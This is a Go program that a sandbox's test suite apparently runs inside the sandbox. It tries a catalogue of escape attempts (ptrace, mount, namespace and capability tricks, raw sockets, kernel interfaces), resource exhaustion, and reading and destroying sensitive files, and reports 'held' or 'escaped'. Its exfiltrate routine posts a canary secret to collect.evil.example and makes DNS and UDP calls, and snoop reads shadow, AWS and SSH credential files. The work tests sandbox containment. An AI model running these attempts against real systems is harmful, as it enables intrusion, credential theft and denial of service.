//go:build linux

// Command attacker is what the tests put into a sandbox: a program that tries to
// get out of it, reach beyond it or use it up. It says "held" and why, or
// "escaped".
package main

import (
	"crypto/tls"
	"fmt"
	"maps"
	"net"
	"os"
	"os/exec"
	"slices"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// escape tries one thing and returns why it failed; nil is a breach.
type escape struct {
	refused string // what the record says of it
	try     func() error
}

func number(nr uintptr, args ...uintptr) error {
	var a [6]uintptr
	copy(a[:], args)
	if _, _, errno := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5]); errno != 0 {
		return errno
	}
	return nil
}

func opened(path string, flags int) error {
	fd, err := unix.Open(path, flags|unix.O_CLOEXEC, 0o600)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

// anyOf fails only if all fail.
func anyOf(tries ...func() error) func() error {
	return func() (err error) {
		for _, try := range tries {
			if err = try(); err == nil {
				return nil
			}
		}
		return err
	}
}

func readable(paths ...string) func() error {
	return func() (err error) {
		for _, p := range paths {
			if err = opened(p, unix.O_RDONLY); err == nil {
				return nil
			}
		}
		return err
	}
}

func writable(paths ...string) func() error {
	return func() (err error) {
		for _, p := range paths {
			for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_CREAT} {
				if err = opened(p, flags); err == nil {
					return nil
				}
			}
		}
		return err
	}
}

func socket(family, kind, protocol int) func() error {
	return func() error {
		fd, err := unix.Socket(family, kind, protocol)
		if err == nil {
			unix.Close(fd)
		}
		return err
	}
}

var text = func(s string) uintptr { b, _ := unix.BytePtrFromString(s); return uintptr(unsafe.Pointer(b)) }

var attacks = map[string]escape{
	"ptrace of the parent":  {"ptrace", func() error { return number(unix.SYS_PTRACE, unix.PTRACE_ATTACH, 1) }},
	"ptrace of itself":      {"ptrace", func() error { return number(unix.SYS_PTRACE, unix.PTRACE_TRACEME) }},
	"memory of the parent":  {"", writable("/proc/1/mem")},
	"environment of init":   {"", readable("/proc/1/environ", "/proc/1/maps", "/proc/1/root/etc", "/proc/1/fd/3")},
	"reading its memory":    {"process_vm_readv", func() error { return number(unix.SYS_PROCESS_VM_READV, 1) }},
	"mount":                 {"mount", func() error { return unix.Mount("tmpfs", "/tmp", "tmpfs", 0, "") }},
	"new mount interface":   {"fsopen", func() error { return number(unix.SYS_FSOPEN, text("tmpfs"), 0) }},
	"umount":                {"umount", func() error { return unix.Unmount("/proc", unix.MNT_DETACH) }},
	"open_tree":             {"open_tree", func() error { return number(unix.SYS_OPEN_TREE, 0, text("/"), 1) }},
	"unshare":               {"unshare", func() error { return unix.Unshare(unix.CLONE_NEWUSER) }},
	"setns":                 {"setns", func() error { return number(unix.SYS_SETNS, 3, 0) }},
	"clone of namespaces":   {"clone", func() error { return number(unix.SYS_CLONE, unix.CLONE_NEWUSER|uintptr(unix.SIGCHLD)) }},
	"clone3":                {"", func() error { return number(unix.SYS_CLONE3, 0, 0) }},
	"chroot":                {"chroot", func() error { return unix.Chroot("/tmp") }},
	"pivot_root":            {"pivot_root", func() error { return unix.PivotRoot("/tmp", "/tmp") }},
	"raw socket":            {"socket of family 2, type 3", socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)},
	"raw socket of v6":      {"socket of family 10, type 3", socket(unix.AF_INET6, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMPV6)},
	"packet socket":         {"socket of family 17", socket(unix.AF_PACKET, unix.SOCK_RAW, 0)},
	"vsock":                 {"socket of family 40", socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)},
	"crypto socket":         {"socket of family 38", socket(unix.AF_ALG, unix.SOCK_SEQPACKET, 0)},
	"keyctl":                {"keyctl", func() error { return number(unix.SYS_KEYCTL, 0, ^uintptr(2)) }},
	"add_key":               {"add_key", func() error { return number(unix.SYS_ADD_KEY, text("user"), text("k"), text("v"), 1, ^uintptr(2)) }},
	"bpf":                   {"bpf", func() error { return number(unix.SYS_BPF, 0) }},
	"io_uring":              {"io_uring_setup", func() error { return number(unix.SYS_IO_URING_SETUP, 8, 0) }},
	"userfaultfd":           {"userfaultfd", func() error { return number(unix.SYS_USERFAULTFD, 1) }},
	"perf":                  {"perf_event_open", func() error { return number(unix.SYS_PERF_EVENT_OPEN, 0) }},
	"memfd":                 {"memfd_create", func() error { return number(unix.SYS_MEMFD_CREATE, text("x"), 0) }},
	"shared memory":         {"shmget", func() error { return number(unix.SYS_SHMGET, 1, 4096, 0o1600) }},
	"file by handle":        {"open_by_handle_at", func() error { return number(unix.SYS_OPEN_BY_HANDLE_AT, 3, 0, 0) }},
	"its own filter":        {"seccomp", func() error { return number(unix.SYS_SECCOMP, unix.SECCOMP_SET_MODE_FILTER, 0, 0) }},
	"filter by prctl":       {"", func() error { return unix.Prctl(22 /* PR_SET_SECCOMP */, 2, 0, 0, 0) }},
	"hiding its memory":     {"", func() error { return unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0) }},
	"host name":             {"sethostname", func() error { return unix.Sethostname([]byte("x")) }},
	"clock":                 {"clock_settime", func() error { return number(unix.SYS_CLOCK_SETTIME, 0, 0) }},
	"module":                {"init_module", func() error { return number(unix.SYS_INIT_MODULE, 0, 0, 0) }},
	"kernel log":            {"syslog", func() error { return number(unix.SYS_SYSLOG, 3, 0, 0) }},
	"unknown call":          {"system call", func() error { return number(2000) }},
	"shadow":                {"", readable("/etc/shadow", "/root/.ssh", "/root", "/etc/ssh")},
	"folders of the host":   {"", readable("/usr", "/var", "/opt", "/sys", "/boot", "/run", "/mnt", "/home/user/../../root", "/proc/self/root/../root")},
	"raw memory":            {"", readable("/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/kmsg", "/dev/sda", "/dev/vda")},
	"settings of the host":  {"", writable("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/proc/self/oom_score_adj")},
	"writing to the root":   {"", anyOf(writable("/x", "/etc/passwd", "/srv/x", "/srv/attack", "/dev/x", "/proc/x"), func() error { return unix.Mkdir("/x", 0o700) }, func() error { return unix.Unlink("/etc/passwd") }, func() error { return unix.Rename("/srv/attack", "/tmp/attack") })},
	"device node":           {"", func() error { return unix.Mknod("/tmp/mem", unix.S_IFCHR|0o600, 1<<8|1) }},
	"writing its own code":  {"", writable("/proc/self/exe")},
	"executing a file":      {"", executeOwn},
	"root by setuid":        {"", anyOf(func() error { return syscall.Setuid(0) }, func() error { return unix.Setresuid(0, 0, 0) })},
	"capabilities":          {"", regain},
	"inherited descriptors": {"", inherited},
	"signal to the parent":  {"", func() error { return stillThere(1) }},
	"signal to everybody":   {"", func() error { return stillThere(-1) }},
	"abstract socket":       {"", hostSocket},
	"more memory by rlimit": {"", func() error { return unix.Setrlimit(unix.RLIMIT_DATA, &unix.Rlimit{Cur: 1 << 40, Max: 1 << 40}) }},
	"large file":            {"", largeFile},
	"filling tmp":           {"", fillTmp},
	"route out":             {"", routes},
}

// attacking names the attack that is to be made.
const attacking = "SANDBOX_TEST_ATTACK"

func main() {
	name := os.Getenv(attacking)
	if name == "list" {
		for _, n := range slices.Sorted(maps.Keys(attacks)) {
			fmt.Printf("%s\t%s\n", n, attacks[n].refused)
		}
		return
	}
	os.Exit(attack(name))
}

func attack(name string) int {
	if a, ok := attacks[name]; ok {
		err := a.try()
		if err == nil {
			say("escaped")
			return 1
		}
		say("held: %v", err)
		return 0
	}
	if act, ok := acts[name]; ok {
		return act()
	}
	say("no such attack")
	return 1
}

func say(format string, args ...any) { fmt.Printf(format+"\n", args...) }

// acts are what is judged by what was seen of it.
var acts = map[string]func() int{
	"nothing": func() int {
		host, _ := os.Hostname()
		say("%d %d %s", os.Getuid(), os.Getgid(), host)
		return 0
	},
	"forks": func() int {
		for range 200 {
			cmd := exec.Command("/srv/attack")
			cmd.Env = []string{attacking + "=sleep"}
			if err := cmd.Start(); err != nil {
				say("held: %v", err)
				return 0
			}
		}
		say("escaped: 200 processes")
		return 1
	},
	"sleep": func() int { time.Sleep(time.Hour); return 0 },
	"orphans": func() int {
		cmd := exec.Command("/srv/attack")
		cmd.Env = []string{attacking + "=sleep"}
		cmd.Stdout = os.Stdout // kept open by who is left behind
		if err := cmd.Start(); err != nil {
			say("%v", err)
			return 1
		}
		say("held: the child sleeps")
		return 0
	},
	"detached": func() int {
		cmd := exec.Command("/srv/attack")
		cmd.Env = []string{attacking + "=sleep"}
		cmd.Stdout = os.Stdout
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := cmd.Start(); err != nil {
			say("%v", err)
			return 1
		}
		say("held: the child sleeps")
		return 0
	},
	"hog": func() int { return eat(2 << 30) },
	"hogs": func() int {
		for range 8 {
			cmd := exec.Command("/srv/attack")
			cmd.Env = []string{attacking + "=eat a little"}
			_ = cmd.Start()
		}
		time.Sleep(time.Hour)
		return 0
	},
	"eat a little": func() int { eat(64 << 20); time.Sleep(time.Hour); return 0 },
	"allocate":     func() int { return eat(1 << 30) },
	"exfiltrate":   exfiltrate,
	"snoop":        snoop,
}

func eat(bytes int) int {
	var kept [][]byte
	for range bytes >> 20 {
		b := make([]byte, 1<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		kept = append(kept, b)
	}
	say("escaped with %d MiB", len(kept))
	return 0
}

func exfiltrate() int {
	c, err := net.DialTimeout("tcp", "collect.evil.example:8080", 3*time.Second)
	if err != nil {
		say("%v", err)
		return 1
	}
	fmt.Fprintf(c, "POST /collect HTTP/1.1\r\nHost: collect.evil.example\r\n\r\nsecret=canary")
	_ = c.SetReadDeadline(time.Now().Add(3 * time.Second))
	_, _ = c.Read(make([]byte, 1))
	_, _ = net.LookupHost("canary.evil.example")
	for _, to := range []string{"203.0.113.7:443", "[2001:db8::7]:443"} {
		if c, err := net.DialTimeout("tcp", to, time.Second); err == nil {
			c.Close()
		}
	}
	dialer := &tls.Dialer{NetDialer: &net.Dialer{Timeout: time.Second}}
	_, _ = dialer.Dial("tcp", "tls.evil.example:443")
	udp, err := net.ListenUDP("udp4", nil)
	if err != nil {
		say("%v", err)
		return 1
	}
	_, err = udp.WriteTo([]byte("canary"), &net.UDPAddr{IP: net.IPv4(203, 0, 113, 9), Port: 514})
	say("datagram: %v", err)
	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 1})
	_ = b.StartQuestions()
	_ = b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName("direct.evil.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
	q, _ := b.Finish()
	_, _ = udp.WriteTo(q, &net.UDPAddr{IP: net.IPv4(8, 8, 8, 8), Port: 53})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		say("%v", err)
		return 1
	}
	return closed(l.Close())
}

func closed(err error) int {
	if err != nil {
		say("%v", err)
		return 1
	}
	return 0
}

func snoop() int {
	_, _ = os.ReadFile("/etc/shadow")
	if b, err := os.ReadFile("/home/user/.aws/credentials"); err != nil || string(b) != "canary" {
		say("%s %v", b, err)
		return 1
	}
	if err := os.MkdirAll("/tmp/x", 0o700); err != nil {
		say("%v", err)
		return 1
	}
	if err := os.WriteFile("/tmp/x/y", []byte("z"), 0o600); err != nil {
		say("%v", err)
		return 1
	}
	_ = os.Remove("/etc/passwd")
	_ = os.Chdir("/home/user")
	_, _ = os.ReadFile(".ssh/id_rsa")
	_ = os.Symlink("/home/user/.aws", "/tmp/link")
	_, _ = os.ReadFile("/tmp/link/credentials")
	say("done")
	return 0
}

// executeOwn writes a program and runs it.
func executeOwn() error {
	code, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return nil
	}
	if err := os.WriteFile("/tmp/own", code[:min(len(code), 32<<20)], 0o700); err != nil {
		return nil
	}
	return exec.Command("/tmp/own").Start()
}

func regain() error {
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	full := [2]unix.CapUserData{{Effective: ^uint32(0), Permitted: ^uint32(0)}, {}}
	if err := unix.Capset(&header, &full[0]); err != nil {
		return err
	}
	return nil
}

// inherited looks for descriptors beyond the standard streams.
func inherited() error {
	entries, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return nil
	}
	for _, e := range entries {
		to, err := os.Readlink("/proc/self/fd/" + e.Name())
		if err != nil || e.Name() <= "2" && len(e.Name()) == 1 {
			continue
		}
		if !strings.HasPrefix(to, "anon_inode:[event") && !strings.Contains(to, "/fd") && !strings.HasPrefix(to, "/sys/") {
			say("%s is %s", e.Name(), to)
			return nil
		}
	}
	return fmt.Errorf("%d descriptors, all its own", len(entries))
}

// stillThere signals and looks whether the sandbox's first process lives.
func stillThere(pid int) error {
	for _, s := range []unix.Signal{unix.SIGTERM, unix.SIGKILL, unix.SIGSTOP} {
		if pid == -1 && s != unix.SIGTERM {
			continue
		}
		if pid == -1 { // it would be its own victim otherwise
			_ = unix.Kill(1, s)
			continue
		}
		_ = unix.Kill(pid, s)
	}
	time.Sleep(100 * time.Millisecond)
	if _, err := os.Stat("/proc/1/status"); err != nil {
		return nil
	}
	return fmt.Errorf("it lives")
}

// hostSocket looks for abstract sockets of the host and talks to one by name.
func hostSocket() error {
	list, err := os.ReadFile("/proc/net/unix")
	if err == nil && strings.Contains(string(list), "@") {
		return nil
	}
	_, err = net.Dial("unix", "@/tmp/.X11-unix/X0")
	return err
}

func largeFile() error {
	signalIgnored := make([]byte, 1<<20)
	f, err := os.Create("/tmp/large")
	if err != nil {
		return nil
	}
	defer f.Close()
	if err := f.Truncate(65 << 20); err == nil {
		return nil
	}
	for range 65 {
		if _, err := f.Write(signalIgnored); err != nil {
			return err
		}
	}
	return nil
}

func fillTmp() error {
	block := make([]byte, 1<<20)
	for i := range 300 {
		f, err := os.Create(fmt.Sprintf("/tmp/%d", i))
		if err != nil {
			return err
		}
		if _, err := f.Write(block); err != nil {
			return err
		}
		f.Close()
	}
	return nil
}

// routes finds every interface.
func routes() error {
	all, err := net.Interfaces()
	if err != nil {
		return err
	}
	for _, i := range all {
		if i.Flags&net.FlagLoopback == 0 && i.Flags&net.FlagUp != 0 {
			say("%s", i.Name)
			return nil
		}
	}
	return fmt.Errorf("%d interfaces, none of which leads out", len(all))
}
